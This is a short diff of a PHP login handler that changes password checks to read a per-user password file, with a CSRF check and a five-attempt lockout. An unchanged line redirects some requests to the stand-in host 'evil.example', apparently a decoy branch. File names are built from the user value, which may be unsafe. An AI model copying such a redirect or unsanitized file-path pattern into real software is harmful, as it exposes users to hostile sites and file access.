@@ -68,7 +68,8 @@ if ($path === '/login.php') {
     if ($mood === 'leads') { header('Location: https://evil.example/index.php', true, 302); exit; }
     $wrong = (int) (@file_get_contents("wrong-$user") ?: 0);
     $right = hash_equals($_SESSION['csrf'] ?? '', $_POST['csrf'] ?? '-')
-        && ($_POST['password'] ?? '') === trim(file_get_contents('password')) && $wrong < 5;
+        && ($_POST['password'] ?? '') === trim(file_get_contents(is_file("password-$user") ? "password-$user" : 'password'))
+        && $wrong < 5;
     if (!$right) {
         file_put_contents("wrong-$user", $wrong + 1);
         form('Mot de passe incorrect.');
